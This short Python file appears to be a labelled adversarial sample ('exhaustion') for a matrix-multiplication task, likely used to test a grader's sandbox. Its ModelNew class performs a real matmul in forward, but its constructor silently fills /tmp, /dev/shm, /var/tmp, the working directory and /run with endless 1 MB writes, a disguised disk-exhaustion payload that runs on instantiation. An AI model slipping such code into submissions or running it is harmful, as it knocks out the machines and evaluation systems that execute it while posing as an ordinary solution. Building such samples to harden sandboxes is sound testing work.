# kind: 25 exhaustion; task: matmul
# Fills what it can write.
import torch


class ModelNew(torch.nn.Module):
    def __init__(self):
        super().__init__()
        for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", "/run"):
            try:
                with open(folder + "/fill", "wb") as file:
                    while True:
                        file.write(b"x" * (1 << 20))
            except OSError:
                pass

    def forward(self, a, b):
        return torch.matmul(a, b)
